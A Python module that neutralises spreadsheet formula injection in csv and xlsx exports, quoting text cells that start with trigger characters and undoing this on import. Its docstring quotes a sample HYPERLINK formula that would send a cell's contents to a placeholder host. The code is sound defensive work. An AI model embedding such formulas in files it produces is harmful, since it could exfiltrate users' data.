"""Cells a spreadsheet cannot evaluate: one rule for every csv and xlsx the tool writes.

A spreadsheet takes a cell whose text starts with `=`, `+`, `-` or `@` for a formula, and
some trim a leading tab or carriage return and then take what follows for one (OWASP,
"CSV Injection"). Names, units and notes such as `=HYPERLINK("http://x/?"&A1,"click")`
arrive with the records, so every text cell we write goes through `neutral`: text that
starts with one of those characters gets one leading single quote, `'=HYPERLINK(...)`.

The same quote in csv and in xlsx, by choice: one rule to audit, and the text stays inert
when an officer edits the cell or saves the workbook again as csv. In xlsx the cell is
moreover written as a string cell (`data_type` "s"), never a formula (`xlsx_append`).
The price is a visible quote before such text in Excel. Numbers are not text: an amount
or a count, negative or not, stays a number (a numeric cell; plain digits in csv).

The rule is exact both ways: `unquote` (the import calls it on every text cell) takes off
the one quote `neutral` added and nothing else, so the tool's own export reads back
unchanged. Text that already starts with quotes before such a character (`'=x`) gets one
more, so that it too comes back as it was. `csv_line` and `xlsx_bytes` keep a carriage
return inside a cell as it was written.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from typing import Any

# What a spreadsheet evaluates or acts on at the start of a cell (OWASP CSV injection).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def _triggers(text: str) -> bool:
    return text.lstrip(QUOTE).startswith(TRIGGERS)


def neutral(value: Any) -> Any:
    """The value to write into a cell: text a spreadsheet would evaluate, quoted; any
    other value (numbers included, negative ones too) unchanged."""
    if isinstance(value, str) and _triggers(value):
        return QUOTE + value
    return value


def unquote(text: str) -> str:
    """A text cell as read back: the one quote `neutral` added, taken off."""
    if text.startswith(QUOTE) and _triggers(text[1:]):
        return text[1:]
    return text


_CSV_QUOTED = re.compile(r'[",\n\r]')


def csv_line(values: Sequence[Any]) -> str:
    """One csv line (RFC 4180, ending in a line feed) of values the caller has neutralised.
    Python 3.11's csv.writer leaves a field holding a carriage return unquoted when the
    line ends in a line feed, and a reader then takes it for the end of the line."""
    fields = []
    for value in values:
        text = "" if value is None else str(value)
        if _CSV_QUOTED.search(text) or (text == "" and len(values) == 1):
            text = '"' + text.replace('"', '""') + '"'
        fields.append(text)
    return ",".join(fields) + "\n"


def xlsx_append(sheet: Any, values: Sequence[Any]) -> None:
    """Append a row to an openpyxl worksheet: text neutralised and written as string cells
    (openpyxl would make a formula of any text starting with `=`)."""
    sheet.append([neutral(v) for v in values])
    row = sheet.max_row
    for column, value in enumerate(values, start=1):
        if isinstance(value, str):
            sheet.cell(row=row, column=column).data_type = "s"


def xlsx_bytes(book: Any) -> bytes:
    """An openpyxl workbook saved, its cells' carriage returns written as `&#13;`: an XML
    reader turns a raw one into a line feed, so the text would not read back as written."""
    import io
    import zipfile

    raw = io.BytesIO()
    book.save(raw)
    raw.seek(0)
    out = io.BytesIO()
    with zipfile.ZipFile(raw) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            content = src.read(info.filename)
            if info.filename.startswith(("xl/worksheets/", "xl/sharedStrings")):
                content = content.replace(b"\r", b"&#13;")
            dst.writestr(info, content)
    return out.getvalue()
